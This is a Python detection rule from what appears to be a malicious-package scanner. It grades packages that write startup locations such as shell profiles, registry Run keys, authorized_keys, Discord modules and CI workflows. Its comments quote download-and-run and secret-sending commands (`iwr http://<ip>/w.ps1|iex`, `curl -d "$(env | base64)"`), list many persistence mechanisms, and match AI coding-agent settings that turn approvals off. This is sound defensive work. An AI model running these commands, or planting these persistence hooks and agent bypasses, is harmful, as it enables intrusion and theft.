from __future__ import annotations

import re
from dataclasses import replace
from typing import Iterator

from ....diff import TEST_PATH
from ....model import Confidence as C
from ....model import Finding
from ....model import Severity as S
from ...install_scripts import AI_AGENT_UNLEASHED, ENCODED, SCRIPT_EVAL, SCRIPT_FETCH, runs_remote_code, sends_loot
from .. import flow as F
from .. import patterns as P
from ..behaviours import executes, sends, writes_file
from ..calls import COPIES
from ..gates import any_word
from ..view import FileView, Grid
from . import rule

FOLDER_OPEN = any_word(b"folderOpen")
"""A VS Code task's `runOn` value that runs it when the folder is opened."""
GRID = Grid(install=(S.CRITICAL, C.HIGH), load=(S.HIGH, C.HIGH), deferred=(S.MEDIUM, C.LOW))
DISCORD_MODULES = ("discord_desktop_core", "discord_voice", "discord_modules", "discord_utils", "discord_krisp",
                   "discord_desktop_overlay")
"""Discord's own modules (each an `index.js` the client loads at start): what injectors append their `require` to."""
NEVER_LEGITIMATE = (*DISCORD_MODULES, "authorized_keys", ".pth", "customize.py", "/startup", "\\startup", "Match exec",
                    "PermitLocalCommand", "EventConsumer", "ScriptletURL", "scrobj.dll", "RUN+=", "AppInit_DLLs",
                    "NetworkProvider", "SilentProcessExit", "SecurityAgentPlugins", "authorizationdb", "LSEnvironment",
                    "DYLD_INSERT_LIBRARIES", "Excel\\Options", "ld.so.preload", "Active Setup", "emond", "TimeProviders",
                    "add helper", "NetSh", "Library/Spotlight", "Library/QuickLook", "mozilla.cfg", "general.config.filename")
ANOTHER_APP = ("app.asar", *DISCORD_MODULES, "core.hooksPath")
"""Another application's code (an Electron app's archive, Discord's core) or the hooks of every git
repository of the user: nothing a library sets up when it is installed or loaded."""
LOADED_BY_OTHERS = re.compile(P.LOADED_BY_OTHERS, re.I)
JVM_AGENT = re.compile(rb"-(javaagent|agentpath|agentlib):")
"""A JVM option that loads an agent into the VM at start (a JetBrains IDE's `.vmoptions`: every start of the IDE)."""
WRITE_VERB = re.compile(r"^(add|write|import|copy)$|^\S+\s+(add|write|import|copy)\b|\b(Set|New)-ItemProperty\b", re.I)
"""A command that changes what it names (`reg add`, `security authorizationdb write`, `defaults write`), as an argument
or a command line."""
KEY_TRUST = ("authorized_keys", "TrustedUserCAKeys")
SSH_PUBLIC_KEY = re.compile(r"(^|\n)(ssh-(ed25519|rsa|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com) AAAA[0-9A-Za-z+/]{40,}")
"""An SSH public key written in the code: what a key-trust location is handed to let its private half in."""
REDIRECTED = re.compile(r"(?:>>?|\btee\s+(?:-a\s+)?)[ \t]*['\"]?([^\s'\"<>|;&]+)")
"""Where a shell script in a string writes (`cat > /Library/LaunchDaemons/x.plist <<'EOF'`): a long script names its
startup file here."""
CI_CONFIG = re.compile(P.CI_CONFIGS, re.I)
SCAFFOLDED = ("/workflows", "\\workflows")
"""CI workflows: project generators write them when a user asks; from install or load code they are
the worm's way in (Shai-Hulud)."""
"""Installers write shell profiles (completions, PATH); nothing legitimate adds SSH keys or rewrites
another application's code, from wherever it runs: at least high/high."""


@rule("persistence", title="Writes a startup location",
      description="A write or exec next to a startup location (shell profiles, crontab, Startup folder, Run keys, "
                  "LaunchAgents, systemd user units, autostart and X session start-up files, GitHub workflows, authorized_keys, Discord's "
                  "desktop core, an Electron app's app.asar, a global git core.hooksPath, Python start-up files, an SSH "
                  "`Match exec`, `KnownHostsCommand` or `ProxyCommand` line, a WMI event consumer, a COM class "
                  "registered for the user, a macOS login item, direnv's .envrc or its whitelist, APT hooks, NetworkManager "
                  "dispatcher scripts, gdb/lldb/pdb init files, sshd's ~/.ssh/rc, macOS login hooks, Kubernetes static pod manifests, Image File Execution Options and SilentProcessExit monitors, AppInit_DLLs, print processors, network providers, LSA packages, macOS "
                  "authorization plugins, an app's LSEnvironment, Excel's OPEN add-ins and start-up folders, Office add-in keys and VSTO's inclusion list, sshd's trusted user CAs, "
                  "Active Setup, emond rules, D-Bus service files, tmux's config, at jobs, Windows Time providers, netsh helpers, the CLR "
                  "profiler variables, a BITS notify command) so code runs again later; critical at install or load, high in a function, "
                  "when the file also holds a command that downloads and runs code (what starts each time is a loader; critical in "
                  "code the application runs beside an AI agent's approvals turned off: an MCP server it starts unasked); "
                  "critical at install or load for another application's code or every repository's hooks; a shell profile "
                  "given a variable that makes programs load code (ELECTRON_OVERRIDE_DIST_PATH, LD_PRELOAD, NODE_OPTIONS "
                  "with --require) is critical from code that runs or the application runs. A Redis "
                  "`CONFIG SET dbfilename` beside such a path plants it through the Redis server.",
      category="persistence", consumes=("string", "call"), grid=GRID)
def check(view: FileView) -> Iterator[Finding]:
    facts = view.all
    writes = next((f for f in facts if writes_file(f) or executes(f) or f.value in COPIES), None) \
        or _calls_a_writer(view)
    redis = next((f for f in facts if f.kind == "string" and f.value == "dbfilename"), None)
    # (an editor task that runs when the folder is opened, built in one module and written by another)
    task = view.mentions(FOLDER_OPEN)
    if writes is None and redis is None and not task:
        return  # (nothing writes: the paths are not searched)
    target = _startup_string(view) \
        or next((f for f in facts if executes(f) and any(P.PERSISTENCE_PATHS.search(s) for s in f.shapes)), None) \
        or _python_path_file(view) or _sourced_with_download(view) \
        or (_location_from_helper(view) if writes is not None and any(writes_file(f) for f in facts) else None)
    if target and redis and writes is None:
        # Redis told to save its database as a startup file (`CONFIG SET dir ~/.ssh`, `dbfilename
        # authorized_keys`, a crontab): the unauthenticated-Redis foothold, through the app's own
        # connection. Redis saves where it is told; nothing else sets a database's file name to these.
        level = view.weaker(view.level(target), view.level(redis))
        api = level == "deferred" and view.called_by_app(redis)
        severity, confidence = (S.CRITICAL, C.HIGH) if level != "deferred" or api else (S.HIGH, C.MEDIUM)
        yield view.finding("persistence", severity, confidence, "persistence",
                           f"Has Redis save its database as a startup file ({target.value[:80]!r}, CONFIG SET dbfilename), "
                           f"{view.when_text(level)}: a key or cron line planted through the Redis server.", redis, level)
        return
    planted = _planted_command(view) if (writes is not None or task) and target is None else None
    if planted is not None:
        # A command that downloads and runs code, hidden (char codes, decoded), in a file that writes files
        # or builds a VS Code task run at folder open: it goes into something that runs it later (an Xcode
        # build phase, a CI step, a hook, the editor), where no review of the package sees it. XcodeSpy's Run
        # Script phase; blind set 19's lint-setup CLI.
        level = view.level(planted)
        severity, confidence = view.grade(GRID, level)
        # (an editor task that fetches and runs a hidden host's script when a folder opens has no other use)
        # (nor does one planted when the package is installed or loaded, or by a function the application calls: a
        # crash debugger registered by a library's enableCrashDumps(), blind set 42)
        # (nor one from a bare IP address planted by a command the user types: blind set 53's Scoop doctor wrote a
        # hidden `iwr http://<ip>/w.ps1|iex` in front of git's, node's and python's shims from its `fix`)
        now = level in ("install", "entry") or view.run_by_app(planted) or (level == "module" and P.RAW_IP_URL.search(planted.value))
        severity, confidence = (S.CRITICAL, C.HIGH) if task or now else (max(severity, S.HIGH), confidence)
        yield view.finding("persistence", severity, confidence, "persistence",
                           f"Writes a command that downloads and runs code ({planted.value[:80]!r}), hidden in the code, "
                           "into a file that runs it later.", planted, level)
        return
    if target and target.value.endswith(".vmoptions") and JVM_AGENT.search(view.text) is None:
        return  # (a JetBrains IDE's memory settings: startup only for an agent the JVM loads, `-javaagent:x.jar`)
    if target and writes and LOADED_BY_OTHERS.search(target.value) and not P.PERSISTENCE_PATHS.search(
            LOADED_BY_OTHERS.sub("", target.value)) and not _changes_what_it_names(facts):
        return  # (an audit that reads LSA's packages with `reg query`, the authorization database with `read`)
    if target and writes:
        level = view.weaker(view.level(target), view.level(writes))
        if level == "deferred" and any(s in target.value.replace(".github", "") for s in SCAFFOLDED):
            return
        severity, confidence = view.grade(GRID, level)
        if level == "deferred" and view.hidden_url() is not None:
            severity, confidence = S.HIGH, C.MEDIUM  # (what it plants talks to a host the file hides)
        hidden_ci = CI_CONFIG.search(target.value) is not None and view.hidden_url() is not None \
            and (level != "deferred" or view.run_by_app(writes))
        if hidden_ci:
            # A CI configuration rewritten, by code that runs, in a file that hides a URL (a GitLab `include: remote:`, a
            # reusable workflow given every secret, blind set 49's CI sync CLI): what every later build runs comes from a
            # host no reader of the code sees. A generator writes the templates its users read.
            severity, confidence = S.CRITICAL, C.HIGH
        if level in ("module", "deferred") and TEST_PATH.search(view.facts.path):
            # A test nothing loads (a sanitizer's test of '~/.ssh/authorized_keys') plants no key.
            severity, confidence = S.LOW, C.LOW
        elif level == "module" and _manages_keys_it_is_given(view, target):
            # A key-management command (`ssh-deploy-key add <pubkey>`): it writes authorized_keys when the user runs
            # it, with the key the user names on its command line; it ships no key and talks to no one.
            severity, confidence = S.LOW, C.LOW
        elif any(name in target.value for name in NEVER_LEGITIMATE):
            severity, confidence = max(severity, S.HIGH), max(confidence, C.HIGH)
            if P.WINDOWS_TRIGGERS.search(target.value) and (level != "deferred" or any(
                    view.run_by_app(f) for f in facts if writes_file(f) or executes(f))):
                # (a WMI consumer created on the first call of the library's API, a udev rule whose RUN key pipes
                # a decoded script into sh, written by the CLI: no installer's rule downloads or decodes what it runs)
                severity = S.CRITICAL
        if any(name in target.value for name in KEY_TRUST) and _ships_ssh_key(view):
            # The package hands sshd a key or a certificate authority of its own (the CA key a constant beside the
            # `TrustedUserCAKeys` line): whoever holds the private half logs in. A hardening tool takes the user's CA.
            severity = S.CRITICAL if level != "deferred" or view.run_by_app(writes) else max(severity, S.HIGH)
            confidence = C.HIGH
        loader = _loader_variable(view) if SHELL_PROFILE.search(target.value) else None
        if loader is not None:
            # A shell profile given a variable that makes programs load code the package chose (Electron's
            # ELECTRON_OVERRIDE_DIST_PATH pointed at a runtime it downloaded, LD_PRELOAD, NODE_OPTIONS=--require): every
            # program started from the shell runs it (blind set 52's Electron Forge plugin). A setup tool adds PATH lines.
            severity = S.CRITICAL if level != "deferred" or view.run_by_app(writes) else max(severity, S.HIGH)
            confidence = C.HIGH
        cradle = download_cradle(view)
        if cradle is not None:
            # What is planted downloads and runs code each time it starts (an AppleScript login item whose `do shell
            # script` is `curl … | sh`, blind set 22): a start-up entry that runs a program of the package is an
            # installer's, one that runs whatever a server answers is a loader's.
            # In code the application runs, with the host decoded at run time (an auto-launch library's enable() that
            # also writes a login helper running `curl <base64-decoded URL> | sh`), it is no installer's either.
            # So is a cradle that fetches from a bare public IP address, which no updater's script names.
            # Or one that decodes what it runs (`… | base64 -d | gunzip | sh`, blind set 43's crontab helper, whose
            # never-firing entries carry the script): the command shows nothing of what starts.
            # So is one the file plants beside an AI agent's approvals turned off (Codex's `approval_policy = "never"`,
            # Claude Code's `bypassPermissions`): an MCP server's command that the agent starts unasked (blind set 52's
            # next.config wrapper pointing CODEX_HOME at a profile it wrote).
            # So is one the code keeps encoded and decodes as it writes it (blind set 56's socket-activation helper wrote
            # a systemd socket and a service running `bash -i` on it from hex): an installer's unit is text in the open.
            app = level == "deferred" and (view.hidden_url() is not None or P.RAW_IP_URL.search(cradle.value) is not None
                                           or ENCODED.search(cradle.value) is not None or _agent_approvals_off(view)
                                           or view.labels(writes) & (F.DECODED | F.UNPACKED)) \
                and view.run_by_app(writes)
            severity, confidence = (S.CRITICAL if level != "deferred" or app else max(severity, S.HIGH)), C.HIGH
        if level in ("install", "entry") and any(name in target.value for name in ANOTHER_APP):
            # Rewriting another application's code, or every repository's hooks, as soon as the
            # package is installed or loaded: the wallet-patching and git-hook campaigns.
            severity, confidence = S.CRITICAL, C.HIGH
        named = (P.WINDOWS_TRIGGERS.search(target.value) or (REGISTRY_SCRIPT.match(target.value)
                                                            and P.PERSISTENCE_PATHS.search(target.value))) \
            if len(target.value) > 80 else None
        yield view.finding("persistence", severity, confidence, "persistence",
                           f"Writes to a startup location ({named.group(0) if named else target.value[:80]!r}"
                           + (f" in {target.value[:60]!r}…" if named else "") + ") so code runs again later"
                           + (f", and the file holds a command that downloads and runs code or sends secrets ({cradle.value[:80]!r})." if cradle
                              else f", in a file that hides a URL ({view.hidden_url().value[:60]!r})." if hidden_ci
                              else f", setting a variable that makes programs load code ({loader.value.strip()[:80]!r})." if loader
                              else "."),
                           target, level)


AGENT_APPROVALS_OFF = re.compile(rb"""approval_policy\s*=\s*\\?["']never|sandbox_mode\s*=\s*\\?["']danger-full-access|"""
                                 rb"""["']defaultMode\\?["']\s*:\s*\\?["']bypassPermissions""")
"""An AI coding agent's approvals turned off in its configuration file (its command-line flags for the same are
`install_scripts.AI_AGENT_UNLEASHED`): it runs commands and tools without asking."""


def _agent_approvals_off(view: FileView) -> bool:
    return AGENT_APPROVALS_OFF.search(view.text) is not None \
        or AI_AGENT_UNLEASHED.search(view.text.decode("utf-8", "replace")) is not None
SHELL_PROFILE = re.compile(r"\.(bashrc|zshrc|zshenv|zprofile|bash_profile|bash_login|profile)$")
LOADER_VARIABLE = re.compile(r"(^|[\s;])(export\s+)?(ELECTRON_OVERRIDE_DIST_PATH|LD_PRELOAD|DYLD_INSERT_LIBRARIES|BASH_ENV|PERL5OPT|"
                             r"PYTHONSTARTUP)=|(^|[\s;])(export\s+)?(NODE_OPTIONS=['\"]?[^'\"\n]*(--require|-r\s|--import|"
                             r"--(experimental-)?loader)|JAVA_TOOL_OPTIONS=['\"]?[^'\"\n]*-javaagent)")
"""An environment variable that makes the programs it reaches load code: Electron's runtime override, the dynamic
loader's preload, bash's start-up file, Perl's and Python's start-up options, Node's preloads, the JVM's agents."""


def _loader_variable(view: FileView):
    """A string of the file that sets a `LOADER_VARIABLE` (`ELECTRON_OVERRIDE_DIST_PATH=${dir}`)."""
    return next((f for f in view.of_kind("string") if len(f.value) < 2000 and LOADER_VARIABLE.search(f.value)), None)


def _calls_a_writer(view: FileView):
    """A call in the file that hands a startup location to a function of another of the package's files that writes a
    file or runs a process (tsc's `(0, reg_1.regAdd)(key, …)`, the `reg add` in `reg.js`): the file says where, the helper
    does it. The call's fact."""
    program = view.program
    if program is None:
        return None
    callers = getattr(program, "_writer_callers", None)
    if callers is None:
        # (what writes, and what reaches it through calls: tsc's `regAdd` reaches `execFile` through `__awaiter`)
        writers = program.reaching({(path, f.scope) for path, ff in program.files.items() for f in ff.facts
                                    if f.kind == "call" and (writes_file(f) or executes(f))})
        callers = {caller for caller, callees in program.edges.items()
                   if any(callee in writers and callee[0] != caller[0] for callee in callees)}
        program._writer_callers = callers
    path = view.facts.path
    scopes = {scope for p, scope in callers if p == path}
    # (the call hands the helper the startup location: `regAdd(`${SPE}\\${exe}`, …)`, not any call beside a mention)
    return next((f for f in view.all if f.kind == "call" and f.scope in scopes and any(
        isinstance(a, str) and len(a) < 200 and P.PERSISTENCE_PATHS.search(a) for a in (*f.args, *f.shapes))), None) \
        if scopes else None


REGISTRY_SCRIPT = re.compile(r"^\ufeff?(Windows Registry Editor Version 5\.00|REGEDIT4)\s")
"""A .reg file's text (what `reg import` or regedit /s writes into the registry): its `[HKEY_…]` lines are keys it
writes."""


def _names_startup(f) -> bool:
    """A string that names a startup location, redirects a shell script into one, or is an SSH or WMI trigger; or a
    registry script that writes one of its keys."""
    return f.kind == "string" and (
        (len(f.value) < 200 and P.PERSISTENCE_PATHS.search(f.value) is not None)
        or (len(f.value) < 5000 and REGISTRY_SCRIPT.match(f.value) is not None and P.PERSISTENCE_PATHS.search(f.value) is not None)
        or (len(f.value) < 5000 and ">" in f.value and _redirects_to_startup(f.value))
        or (len(f.value) < 5000 and (P.SSH_COMMANDS.search(f.value) or P.WINDOWS_TRIGGERS.search(f.value)) is not None))


def _startup_string(view: FileView):
    """The file's first string that names a startup location, and (in a file that writes no file) is not only compared
    with a path; or, when the
    file's text names one no installer writes (an Active Setup StubPath beside an auto-start library's Run key), the
    first string naming that one."""
    # (a file that writes files may look for the startup files it changes: `d.name === 'discord_voice'`)
    writes = any(writes_file(f) for f in view.all)
    first = next((f for f in view.all if _names_startup(f) and (writes or not _only_compared(f))), None)
    if first is None or any(name in first.value for name in NEVER_LEGITIMATE) \
            or not any(name.encode() in view.text for name in NEVER_LEGITIMATE):
        return first
    return next((f for f in view.all if any(name in f.value for name in NEVER_LEGITIMATE) and _names_startup(f)), first)


def _only_compared(f) -> bool:
    """A startup location the line only tests a path against (`file.relativePath.startsWith('.github/workflows/')`, a
    CI diagnosis sorting a repository's files; `=== '.bashrc'`): a name the code looks for, not a place it writes."""
    value = f.value
    if len(value) > 200 or value not in (snippet := f.snippet):
        return False
    quoted = rf"""['"`]{re.escape(value)}['"`]"""
    uses = re.findall(quoted, snippet)
    compared = re.findall(rf"\.(?:startsWith|endsWith|includes|indexOf|lastIndexOf)\(\s*{quoted}|[!=]==?\s*{quoted}"
                          rf"|{quoted}\s*[!=]==?", snippet)
    return bool(uses) and len(compared) >= len(uses)


def _changes_what_it_names(facts) -> bool:
    """The file writes or copies a file, or runs a command that changes what it names (`reg add`, `authorizationdb write`): not
    only `reg query` and `defaults read`."""
    return any(writes_file(f) or f.value in COPIES
               or (executes(f) and any(isinstance(a, str) and WRITE_VERB.search(a) for a in (*f.args, *f.shapes)))
               for f in facts)


def _redirects_to_startup(script: str) -> bool:
    """A line of a shell script in a string, not a comment, that redirects into a startup location (a completion
    script's `#   app completion >> ~/.bashrc` is its usage note)."""
    return any(P.PERSISTENCE_PATHS.search(m.group(1)) for line in script.splitlines() if not line.lstrip().startswith("#")
               for m in REDIRECTED.finditer(line))


def _manages_keys_it_is_given(view: FileView, target) -> bool:
    """A script the user runs (a bin) that adds to a key-trust file the key its command line names: no key of its own,
    no request."""
    return any(name in target.value for name in KEY_TRUST) and not any(
        name in target.value for name in NEVER_LEGITIMATE if name not in KEY_TRUST) \
        and b"process.argv" in view.text and not _ships_ssh_key(view) and not any(sends(f) for f in view.all)


def _ships_ssh_key(view: FileView) -> bool:
    """An SSH public key among the strings of the file or of the package's files it calls."""
    files = [view.facts]
    program = view.program
    if program is not None:
        files += [program.files[p] for p in {callee[0] for _, callee in program.calls_out_of(view.facts.path)} if p in program.files]
    return any(f.kind == "string" and SSH_PUBLIC_KEY.search(f.value) for ff in files for f in ff.facts)


def _location_from_helper(view: FileView):
    """A startup location that a function of another of the package's files, which this file calls, builds (tsc's
    `(0, profile_1.renderProfile)(CA_PATH)`, whose lines hold `TrustedUserCAKeys …`), in a file that writes files: the
    helper says what, this file writes it. The call's fact, holding the location."""
    program = view.program
    if program is None:
        return None
    for (_, scope), (callee_path, callee_scope) in program.calls_out_of(view.facts.path):
        if callee_scope is None or callee_path not in program.files:
            continue
        location = next((f for f in program.files[callee_path].facts if f.scope == callee_scope and f.kind == "string"
                         and len(f.value) < 200 and P.PERSISTENCE_PATHS.search(f.value)), None)
        if location is None:
            continue
        call = next((f for f in view.all if f.kind == "call" and f.scope == scope), None)
        if call is not None:
            return replace(call, value=location.value)
    return None


def _sourced_with_download(view: FileView):
    """A file every shell sources (bash-completion's, fish's conf.d) in a file that has a command downloading and
    running code: a completion that runs `curl … | sh` each time a shell starts (blind set 17's deployctl)."""
    target = next((f for f in view.of_kind("string") if len(f.value) < 200 and P.SHELL_SOURCED.search(f.value)), None)
    if target is None or download_cradle(view) is None:
        return None
    return target


def download_cradle(view: FileView):
    """A string of the file that downloads and runs code (`curl -fsS http://… | /bin/sh`), or that sends the environment
    or a credential file (`curl -d "$(env | base64)" …`, a CI step planted to post every secret of each build), or a
    script it writes out that reads a URL and evaluates what it got (an editor plugin's Python, `exec(urlopen(u).read())`,
    blind set 49); looked for once per file."""
    if "download-cradle" not in view.derived:
        view.derived["download-cradle"] = next(
            (f for f in view.of_kind("string") if 8 < len(f.value) < 5000 and (runs_remote_code(f.value) or sends_loot(f.value))
             or 200 < len(f.value) < 200_000 and SCRIPT_FETCH.search(f.value) and SCRIPT_EVAL.search(f.value)),
            None)
    return view.derived["download-cradle"]


def _python_path_file(view: FileView):
    """A `.pth` file name in a file that names site-packages (searched for only when there is one)."""
    pth = next((f for f in view.of_kind("string") if P.PYTHON_PATH_FILE.match(f.value)), None)
    return pth if pth is not None and P.SITE_PACKAGES.search(view.text) else None


def _planted_command(view: FileView):
    """A string that downloads and runs code (`curl … | sh`) from a host the file never writes as it is (what is
    built at run time may follow the host: the platform's name in the path)."""
    if view.hidden_url() is None:
        return None  # (cached: no string of the file hides a host, so none is looked at again)
    for f in view.all:
        if f.kind == "string" and 8 < len(f.value) < 2000 and view.hides_host(f.value) \
                and runs_remote_code(f.value):
            return f
    return None
